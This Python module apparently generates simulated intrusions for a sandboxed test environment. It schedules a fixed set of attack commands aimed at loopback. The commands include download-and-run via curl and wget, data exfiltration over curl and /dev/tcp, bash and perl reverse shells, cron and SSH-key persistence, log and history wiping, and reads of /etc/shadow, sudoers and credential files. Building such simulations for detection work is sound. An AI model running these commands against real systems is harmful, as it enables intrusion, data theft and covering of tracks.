"""The staged intrusions: harmless, on loopback and inside the sandbox only, in the forms that real ones take."""

from __future__ import annotations

import numpy as np
from process.jobs import Job

PAYLOADS, EXFILTRATION, SHELL = 8444, 9001, 4444

PAYLOAD = """#!/bin/bash
id; uname -a; cat /proc/version /etc/hostname; ls /srv/shop/home; env | sort | head -3
"""

# What the far end of a reverse shell types.
TYPED = ("id", "ls -l /srv/shop/home", "cat /etc/passwd", "cat /srv/shop/data/session.key", "exit")

KINDS: dict[str, tuple[tuple[str, str], ...]] = {
    "download_and_run": (
        ("www", "curl -s http://127.0.0.1:8444/u.sh -o /tmp/.u.sh; chmod 755 /tmp/.u.sh; /tmp/.u.sh"),
        ("bob", "wget -q http://127.0.0.1:8444/k -O /dev/shm/kworker; chmod 755 /dev/shm/kworker; /dev/shm/kworker"),
    ),
    "exfiltration": (
        (
            "alice",
            "tar czf /tmp/.c.tgz -C {root}/home/alice docs data; openssl enc -aes-256-cbc -pbkdf2 -k x -in /tmp/.c.tgz "
            "-out /tmp/.c.bin; curl -s -T /tmp/.c.bin http://127.0.0.1:9001/c; rm -f /tmp/.c.tgz /tmp/.c.bin",
        ),
        ("www", "tar czf - -C {root} data | base64 > /tmp/.d; cat /tmp/.d > /dev/tcp/127.0.0.1/9001; rm -f /tmp/.d"),
    ),
    "persistence": (
        (
            "www",
            "cp /bin/true {root}/upload/.sync; printf '* * * * * {root}/upload/.sync\\n' >> {root}/cron.d/shop; "
            "cat {root}/cron.d/shop",
        ),
        (
            "alice",
            "mkdir -p {root}/home/alice/.ssh; echo 'ssh-ed25519 AAAA x' >> {root}/home/alice/.ssh/authorized_keys; "
            "chmod 600 {root}/home/alice/.ssh/authorized_keys; echo ': & ' >> {root}/home/alice/.bashrc",
        ),
    ),
    "log_wiping": (
        ("ops", "shred -u {root}/log/access.log.1.gz; truncate -s 0 {root}/log/access.log {root}/log/health.log"),
        (
            "bob",
            "rm -f {root}/home/bob/.bash_history; ln -s /dev/null {root}/home/bob/.bash_history; "
            "sed -i '/8444/d' {root}/log/access.log",
        ),
    ),
    "reverse_shell": (
        ("www", "exec 5<>/dev/tcp/127.0.0.1/4444; while read -r line <&5; do eval \"$line\" >&5 2>&1; done"),
        (
            "bob",
            "perl -MIO::Socket -e '$s = IO::Socket::INET->new(\"127.0.0.1:4444\"); while (<$s>) {{ print $s `$_`; }}'",
        ),
    ),
    "privilege_probing": (
        (
            "www",
            "cat /etc/shadow; find /usr/bin /usr/sbin -perm -4000; ls -la /root {root}/home/alice {root}/home/bob; "
            "cat {root}/home/bob/.netrc; su -c id",
        ),
        (
            "alice",
            "cat /etc/sudoers /etc/shadow; head -c 64 /proc/1/environ; find {root}/home/bob -name '*.pem'; mount",
        ),
    ),
}  # fmt: skip


def intrusions(start: float, stop: float, seed: int, root: str) -> list[Job]:
    """Return every variant once, in an order and at gaps drawn from the seed, between two moments."""
    rng = np.random.default_rng(seed + 1)
    variants = [(kind, user, command) for kind, ways in KINDS.items() for user, command in ways]
    order = rng.permutation(len(variants))
    slots = np.linspace(start, stop, len(variants) + 1)
    jobs = []
    for slot, index in enumerate(order):
        kind, user, command = variants[index]
        at = float(rng.uniform(slots[slot], slots[slot] + 0.6 * (slots[slot + 1] - slots[slot])))
        jobs.append(Job(at, user, _filled(command, root), kind))
    return jobs


def _filled(command: str, root: str) -> str:
    """Put the sandbox's place in; commands are written as templates, with doubled braces where bash or perl has one."""
    return command.replace("{root}", root).replace("{{", "{").replace("}}", "}")
